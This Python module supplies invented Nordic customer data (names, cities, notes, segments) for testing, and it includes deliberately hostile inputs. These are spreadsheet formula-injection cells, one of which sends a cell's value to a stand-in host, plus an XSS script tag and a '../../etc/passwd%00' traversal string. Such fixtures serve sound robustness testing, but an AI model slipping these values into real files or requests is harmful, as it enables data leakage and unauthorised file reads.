"""Lists of words that invented people and definitions are made of."""


def _split(text: str, sign: str = " ") -> tuple[str, ...]:
    return tuple(text.split(sign))


FIRST_NAMES = _split(
    "Åsa Örjan Søren Bjørn Ægir Märta Åke Øyvind Sigrid Jukka Päivi Väinö Aino Ingrid Göran Håkan Anna "
    "Jonas Freja Lærke Mads Jørgen Kåre Gro Tove Björn Lovisa Elias Maja Hugo Ebba Vilgot Nora Emil "
    "Alma Oskar Sofia Johan Linnéa Gustav Astrid Henrik Hilde Knut Marit Terje Solveig Leif Birgitta "
    "Rasmus Mette Anders Kirsten Niels Pernille Tuomas Outi Eero Sanna Mikko Helmi Onni Signe Pär"
)

LAST_NAMES = _split(
    "Åström Öberg Sørensen Bjørnstad Ängström Håkansson Lindström Møller Nygård Hämäläinen Mäkinen "
    "Östlund Ødegård Ærø Sjögren Åkesson Andersson Johansson Karlsson Nilsson Eriksson Larsson Olsson "
    "Persson Svensson Gustafsson Hansen Johansen Olsen Larsen Andersen Nilsen Pedersen Kristiansen "
    "Jensen Rasmussen Christensen Virtanen Korhonen Nieminen Laine Heikkinen Koskinen Järvinen Lehtonen "
    "Saarinen Salminen Heinonen Niemi Dahl Berg Haugen Hagen Bakke Lund Strøm Moen Solberg Ek Björk "
    "Falk Sjöberg Wallin Engström"
)

CITIES = _split(
    "Malmö|Göteborg|Umeå|Östersund|Åre|Växjö|Örebro|Skellefteå|Tromsø|Ålesund|Bodø|Bærum|Sandnessjøen|Oslo|Bergen|Hønefoss|"
    "Ærøskøbing|Århus|Køge|Helsingør|Nørrebro|København|Ærø|Jyväskylä|Hyvinkää|Järvenpää|Turku|Åbo|Oulu|Mänttä|Reykjavík|Lund",
    "|",
)

# Cells that break careless readers: separators, quotes, line breaks, what a spreadsheet takes for a formula.
NOTES = (
    "Vill ha katalogen, helst på papper",
    'Kallas "Lillan" av alla',
    "Ring efter 17;\ninte på fredagar",
    "=SUMMA(A1:A9)",
    "+46 saknas i numret",
    "@butiken i Åre",
    "-10 % på allt, sade hon",
    "Første linje\r\nandre linje",
    "Semikolon; komma, og «gåseøyne»",
    '=HYPERLINK("http://example.test/?x="&A1,"Klikk")',
    " mellanslag före och efter ",
    "0045",
    "Kundtjänst: ok",
    "1-2",
    "Lahjakortti, 50 €",
    '""',
)

SEGMENT_NAMES = (
    ("Kvinnor", 0.52, "Alla med könet kvinna."),
    ("Män", 0.47, None),
    ("Aktiva kunder", 0.31, "Köpt något de senaste tolv månaderna."),
    ("Nyhetsbrev, läsare", 0.22, "Öppnat minst ett utskick på nittio dagar."),
    ("Hyttefolk", 0.08, "Kjøpt fra hyttekatalogen."),
    ("Studenter i Trondheim", 0.02, None),
    ("Klubmedlemmer", 0.40, "Medlem af kundeklubben."),
    ("Sovende kunder", 0.18, "Ingen handel i to år."),
    ("Kanta-asiakkaat", 0.12, "Vähintään viisi ostosta."),
    ("VIP", 0.01, ""),
    ("Alla sedan 2009", 1.0, "Hela registret. Tar lång tid att räkna fram."),
    ("Tomt segment", 0.0, "Ingen passar in just nu."),
)

PLACES = _split("Åre Røros Skagen Inari Visby Lofoten Ribe Porvoo Kiruna Hamar Odense Vaasa")

HOSTILE = (
    "<script>alert('hej')</script>",
    'Anna "Ankan" O\'Åström & Søn',
    "\u202e\u05e2\u05d1\u05e8\u05d9\u05ea\u202c \u0645\u0631\u062d\u0628\u0627",
    "👩‍👩‍👧‍👦 Familjer 🇸🇪",
    "Långt namn " + "ååå" * 96 + "!",
    '=HYPERLINK("http://example.test","Klicka")',
    "semi;kolon,komma\ttab",
    "../../etc/passwd%00",
)
